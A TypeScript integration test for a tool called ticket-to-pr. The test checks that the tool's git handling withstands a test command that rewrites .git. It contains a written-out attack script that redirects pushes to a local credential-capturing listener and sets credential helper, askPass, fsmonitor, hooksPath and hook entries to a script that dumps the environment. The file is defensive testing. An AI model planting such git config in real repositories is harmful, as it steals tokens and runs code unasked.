// Attack: the repository's tests rewrite .git so that ticket-to-pr's own git hands over the token
// or runs their code: a pushurl and an insteadOf aimed at a listener on 127.0.0.1, hooks in
// .git/hooks, core.hooksPath (.husky) and an included config, core.fsmonitor, a credential helper.
// Through dist/ as a runner starts it; the sandbox is off so that ticket-to-pr's own defences are
// tried. Here the snapshot check after verification catches every plant before any git command
// runs; GitRunner's settings (hooks, fsmonitor, helpers off) are tried on their own, against plain
// git, in test/integration/git/runner-trust.int.test.ts.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import fs from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { remoteBranches } from '../e2e/sample/repo.js';
import {
  SAMPLE_TICKET,
  scriptedEditModel,
  scriptedTriageModel,
} from '../e2e/sample/scripted-model.js';
import { ADO_TOKEN, startWorld, type World } from '../e2e/world.js';

const BRANCH = 'ticket-to-pr/1-discount-of-10-on-a-200-00-cart-gives';

/** Every file under .git that steers git (config, hooks, info/), with its content and mode. */
function gitFiles(work: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (p: string): void => {
    if (!fs.existsSync(p)) return;
    const stats = fs.lstatSync(p);
    if (stats.isDirectory()) for (const name of fs.readdirSync(p)) walk(path.join(p, name));
    else out[path.relative(work, p)] = `${stats.mode.toString(8)} ${fs.readFileSync(p, 'utf8')}`;
  };
  for (const part of ['config', 'config.worktree', 'hooks', 'info', 'objects/info/alternates'])
    walk(path.join(work, '.git', part));
  return out;
}

describe("the tests rewrite .git: ticket-to-pr's git trusts none of it", () => {
  let attacker: Server;
  let attackerUrl: string;
  const requests: { url: string; authorization: string }[] = [];
  const worlds: World[] = [];

  beforeAll(async () => {
    attacker = createServer((req, res) => {
      requests.push({ url: req.url ?? '', authorization: req.headers.authorization ?? '' });
      res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' });
      res.end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  });
  afterEach(async () => {
    await Promise.all(worlds.splice(0).map((w) => w.close()));
    requests.length = 0;
  });
  afterAll(async () => {
    attacker.closeAllConnections();
    await new Promise((resolve) => attacker.close(resolve));
  });

  async function world(): Promise<World> {
    const w = await startWorld({
      tickets: [SAMPLE_TICKET],
      triageAnswer: scriptedTriageModel(),
      editAnswer: scriptedEditModel({ fixes: true }),
    });
    worlds.push(w);
    return w;
  }

  /** The test command: plants everything, then runs the real tests. */
  function writeAttack(w: World): { command: string; marker: string } {
    const marker = path.join(w.dir, 'hook-ran');
    const hook = path.join(w.dir, 'hook.sh');
    fs.writeFileSync(hook, `#!/bin/sh\necho "ran $0 $*" >> '${marker}'\nenv >> '${marker}'\n`);
    fs.chmodSync(hook, 0o755);
    const evilHooks = path.join(w.dir, 'evil-hooks');
    fs.mkdirSync(evilHooks);
    const included = path.join(w.dir, 'evil.gitconfig');
    fs.writeFileSync(
      included,
      `[core]\n\thooksPath = ${evilHooks}\n[credential]\n\thelper = ${hook}\n`,
    );
    const script = path.join(w.dir, 'attack.sh');
    const hookNames = ['reference-transaction', 'pre-push', 'post-checkout', 'pre-auto-gc'];
    fs.writeFileSync(
      script,
      [
        'set -e',
        `git config remote.origin.pushurl ${attackerUrl}`,
        `git config url.${attackerUrl}.insteadOf ${w.repo.remoteUrl}`,
        `git config credential.helper ${hook}`,
        `git config core.askPass ${hook}`,
        'mkdir -p .husky',
        ...hookNames.flatMap((name) => [
          `cp ${hook} .git/hooks/${name}`,
          `cp ${hook} .husky/${name}`,
          `cp ${hook} ${evilHooks}/${name}`,
        ]),
        'git config core.hooksPath .husky',
        `git config include.path ${included}`,
        `git config core.fsmonitor ${hook}`,
        'node --test',
        '',
      ].join('\n'),
    );
    return { command: `sh ${script}`, marker };
  }

  it('sends nothing to the planted URL, runs no hook, restores .git and ends needs-human; the next job is clean', async () => {
    const w = await world();
    const before = gitFiles(w.repo.workDir);
    const { command, marker } = writeAttack(w);

    const r = await w.run({ inputs: { 'test-command': command, sandbox: 'off' } });

    expect(requests).toEqual([]);
    expect(fs.existsSync(marker)).toBe(false);
    expect(gitFiles(w.repo.workDir)).toEqual(before);
    expect(r.outputs.outcome).toBe('needs-human');
    expect(r.outputs.reason).toContain('.git/config (changed)');
    expect(r.outputs.reason).toContain('.git/hooks/pre-push (added)');
    expect(r.outputs.reason).toMatch(/restored them as they were before verification/);
    expect(r.outputs.reason).toContain('nothing was pushed');
    expect(remoteBranches(w.repo.remoteDir)).toEqual(['main']);
    expect(w.ado.state.pullRequests.size).toBe(0);
    expect(w.ado.tagsOf(1)).toEqual(expect.arrayContaining(['autofix:needs-human']));
    expect(w.ado.tagsOf(1)).not.toContain('autofix:working');
    // The masking command itself carries the value to the runner; nothing else may.
    const log = r.stdout.replace(/^::add-mask::.*$/gm, '') + r.stderr;
    expect(log).not.toContain(ADO_TOKEN);

    // The same checkout, reused by the next job whose tests leave .git alone: it opens its PR,
    // pushed to the real remote.
    const next = await w.run({
      inputs: { 'test-command': 'node --test', 'ticket-id': '1', sandbox: 'off' },
    });
    expect(next.outputs.outcome).toBe('pr-opened');
    expect(requests).toEqual([]);
    expect(fs.existsSync(marker)).toBe(false);
    expect(remoteBranches(w.repo.remoteDir)).toEqual(expect.arrayContaining(['main', BRANCH]));
  });

  it('tests that leave .git alone: the pull request opens as before', async () => {
    const w = await world();
    const before = gitFiles(w.repo.workDir);
    const r = await w.run({ inputs: { sandbox: 'off' } });
    expect(r.outputs.outcome).toBe('pr-opened');
    expect(remoteBranches(w.repo.remoteDir)).toEqual(expect.arrayContaining(['main', BRANCH]));
    expect(w.ado.state.pullRequests.size).toBe(1);
    expect(gitFiles(w.repo.workDir)).toEqual(before);
  });
});
